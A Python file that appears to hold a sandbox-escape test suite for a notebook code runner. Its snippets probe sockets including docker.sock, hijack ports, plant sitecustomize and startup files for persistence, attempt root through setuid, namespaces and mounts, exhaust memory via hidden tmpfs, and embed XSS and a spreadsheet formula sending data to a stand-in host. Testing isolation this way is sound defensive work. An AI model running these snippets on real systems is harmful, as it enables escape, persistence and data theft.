"""Attacks on the box: its network, its file system, what the next submission starts with."""

from __future__ import annotations

from tools.evening.attack import silent, telling

HOST_PORT = 45991
"""Where the test listens outside of the sandbox, over TCP and UDP."""
HOST_ABSTRACT = "drill-test-outside"
HOST_PATH = "/tmp/drill-test-outside.sock"
MARK = "drill-test-mark"
"""What an attack leaves where the next submission would find it."""

ATTACKS = (
    telling(
        "network",
        "Connects to this machine's own ports, and asks whether there is a way to any other.",
        f"""
        import socket

        for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
            for port in ({HOST_PORT}, 22, 53, 80, 443, 5432, 8888):
                try:
                    with socket.socket(family) as link:
                        link.settimeout(2)
                        link.connect((address, port))
                        gained.append((address, port))
                except OSError:
                    continue
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as link:
            link.settimeout(0.5)
            try:
                link.sendto(b"anybody?", ("127.0.0.1", {HOST_PORT}))
                gained.append(link.recv(10))
            except OSError:
                pass
        for family, address in ((socket.AF_INET, "192.0.2.1"), (socket.AF_INET6, "2001:db8::1")):
            try:
                with socket.socket(family, socket.SOCK_DGRAM) as link:
                    link.connect((address, 53))  # sends nothing: it asks the routes
                    gained.append((address, link.getsockname()))
            except OSError:
                continue
        gained += [name for _, name in socket.if_nameindex() if name != "lo"]
        """,
        starts=False,
    ),
    telling(
        "unix-sockets",
        "Connects to the host's Unix sockets: by paths, and by abstract names.",
        f"""
        import glob
        import socket

        names = ["\\0{HOST_ABSTRACT}", "{HOST_PATH}", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
        names += glob.glob("/run/**/*.sock", recursive=True) + glob.glob("/tmp/.X11-unix/*")
        with open("/proc/net/unix") as listed:
            names += ["\\0" + line.split()[-1][1:] for line in listed if line.split()[-1].startswith("@")]
        for name in names:
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
                try:
                    with socket.socket(socket.AF_UNIX, kind) as link:
                        link.settimeout(1)
                        link.connect(name)
                        gained.append(name)
                except OSError:
                    continue
        """,
        starts=False,
    ),
    telling(
        "other-listeners",
        "Looks for listeners inside of its own network, other than the simulator's two.",
        """
        import os
        from urllib.parse import urlsplit

        own = {urlsplit(os.environ["DRILL_URL"]).port, urlsplit(lab.endpoint).port}
        mine = set()
        for each in os.listdir("/proc/self/fd"):
            try:
                mine.add(os.readlink(f"/proc/self/fd/{each}"))
            except OSError:
                continue
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            try:
                lines = open(table).read().splitlines()[1:]
            except OSError:
                continue
            for line in lines:
                local, _, state = line.split()[1:4]
                port = int(local.split(":")[1], 16)
                if f"socket:[{line.split()[9]}]" not in mine and state == "0A" and port not in own:
                    gained.append(port)
        """,
    ),
    telling(
        "raw-sockets",
        "Listens to its own network's packets, in which other kernels' tokens are.",
        """
        import socket

        for family, kind, protocol in (
            (socket.AF_PACKET, socket.SOCK_RAW, 0x0300),
            (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP),
        ):
            try:
                socket.socket(family, kind, protocol).close()
                gained.append(family)
            except OSError:
                continue
        """,
        starts=False,
    ),
    telling(
        "takes-the-port",
        "Listens on the simulator's own port, beside it, to answer in its name.",
        """
        import os
        import socket
        from urllib.parse import urlsplit

        for url in (os.environ["DRILL_URL"], lab.endpoint):
            for address in ("127.0.0.1", "0.0.0.0"):
                taken = socket.socket()
                taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
                taken.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
                try:
                    taken.bind((address, urlsplit(url).port))
                    taken.listen()
                    gained.append((address, url))
                except OSError:
                    taken.close()
        """,
    ),
    telling(
        "startup-files",
        "Writes what the next submission's Python would run: sitecustomize, .pth, IPython's startup.",
        f"""
        import os
        import site
        import sys
        from pathlib import Path

        text = "import builtins; builtins.{MARK.replace("-", "_")} = True"
        places = [Path(each) for each in (*sys.path, *site.getsitepackages()) if each]
        places += [Path(each.__file__).parent for each in list(sys.modules.values()) if getattr(each, "__file__", None)]
        mine = [Path(each).resolve() for each in (os.getcwd(), Path.home(), "/tmp", "/dev/shm")]
        for place in dict.fromkeys(places):
            for name in ("sitecustomize.py", "usercustomize.py", "mark.pth"):
                try:
                    (place / name).write_text(text)
                except OSError:
                    continue
                if not any((place / name).resolve().is_relative_to(each) for each in mine):
                    gained.append(place / name)
        for place in (".ipython/profile_default/startup", ".config/ipython/profile_default/startup", ".local/lib/python3.11/site-packages"):
            for home in (Path.home(), Path("/tmp"), Path("/") / "root", Path("/")):
                try:
                    (home / place).mkdir(parents=True, exist_ok=True)
                    (home / place / "sitecustomize.py").write_text(text)
                    (home / place / "00-mark.py").write_text(text)
                except OSError:
                    continue
        """,
        harms="it writes into this environment's own folders",
    ),
    telling(
        "changes-the-code",
        "Changes files of the environment, of the simulator and of the system.",
        """
        import importlib
        import os

        files = [importlib.import_module(name).__file__ for name in ("simulator", "boto3", "pandas", "json", "IPython", "ipykernel")]
        for path in (*files, "/etc/passwd", "/etc/hosts", "/bin/sh", "/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger"):
            for act in (lambda path: open(path, "ab").close(), os.utime, lambda path: os.chmod(path, 0o644)):
                try:
                    act(path)
                    gained.append(path)
                except OSError:
                    continue
        """,
        harms="it touches this environment's own files",
    ),
    telling(
        "writes-anywhere",
        "Looks for folders outside of its own that it can write to.",
        """
        import os
        from pathlib import Path

        mine = [Path(each).resolve() for each in (os.getcwd(), Path.home(), "/tmp", "/dev/shm", "/var/tmp")]
        mine.append(Path(get_ipython().kernel.parent.ip).parent)
        for folder, below, _ in os.walk("/"):
            below[:] = [each for each in below if f"{folder}/{each}" not in ("//proc", "//sys")]
            if not any(Path(folder).is_relative_to(each) for each in mine) and os.access(folder, os.W_OK):
                gained.append(folder)
        """,
        patient=True,
    ),
    telling(
        "more-rights",
        "Makes itself root, by a user namespace of its own, set-uid programs and mounts.",
        """
        import ctypes
        import os
        import resource

        libc = ctypes.CDLL(None, use_errno=True)
        status = dict(line.split(":\\t", 1) for line in open("/proc/self/status").read().splitlines() if ":\\t" in line)
        if int(status["CapEff"], 16) or int(status["CapBnd"], 16) & 0x200000 and status["NoNewPrivs"].strip() != "1":
            gained.append(status["CapEff"])
        if status["NoNewPrivs"].strip() != "1":
            gained.append("new privileges")
        for act in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot("/proc/1/root")):
            try:
                was = os.getuid()
                act()
                if was:
                    gained.append(act)
            except OSError:
                continue
        for what in (resource.RLIMIT_NPROC, resource.RLIMIT_AS, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
            hard = resource.getrlimit(what)[1]
            try:
                if hard != resource.RLIM_INFINITY:
                    resource.setrlimit(what, (hard + 1, hard + 1))
                    gained.append(what)
            except (OSError, ValueError):
                continue
        if libc.unshare(0x10000000 | 0x00020000) == 0:
            if libc.mount(b"tmpfs", b"/proc", b"tmpfs", 0, None) == 0:
                gained.append("a mount of its own")
        """,
        harms="it mounts",
    ),
    telling(
        "hidden-tmpfs",
        "Makes a namespace with a file system of its own, which no limit knows, and fills it.",
        """
        import ctypes
        import os

        libc, kept = ctypes.CDLL(None, use_errno=True), 0
        child = os.fork()
        if child == 0:
            if libc.unshare(0x10000000 | 0x00020000) or libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, b"size=8g"):
                os._exit(3)
            block = b"x" * 2**20
            try:
                for number in range(96):
                    with open(f"/tmp/{number}", "wb", buffering=0) as file:
                        for _ in range(32):
                            kept += file.write(block)
            except OSError:
                os._exit(4)
            os._exit(0)
        gained += [child] if os.waitpid(child, 0)[1] == 0 else []
        """,
        ends=("ran", "stopped"),
        harms="it takes memory without end",
    ),
    silent(
        "magics",
        "Uses the magics that notebooks have for what isn't Python.",
        "%load_ext autoreload",
        "%autosave 1",
        "!ls -la; id; env | sort | head",
        "%%bash\necho hello > hello.txt",
        "%%writefile notes.py\nx = 1",
        "%run notes.py",
        "%reset -f",
        "%%javascript\nalert(1)",
        "%connect_info",
        ends=("ran",),
    ),
    silent(
        "messages",
        "Says in its errors what a page, a terminal or a spreadsheet might run.",
        "raise RuntimeError('<script>alert(1)</script><img src=x onerror=alert(2)>\\x1b[31m\\x1b]0;title\\x07')",
        "raise ValueError('=HYPERLINK(\"http://192.0.2.1/\"&A1)')",
        "raise ValueError('\\ud800 \\x00 \\u202e reversed ]]> <![CDATA[')",
        "class Nameless(Exception):\n    def __str__(self):\n        raise SystemError\n\n\nraise Nameless",
        "raise type('<b>' * 50, (Exception,), {})('x' * 5_000)",
        ends=("ran",),
    ),
)
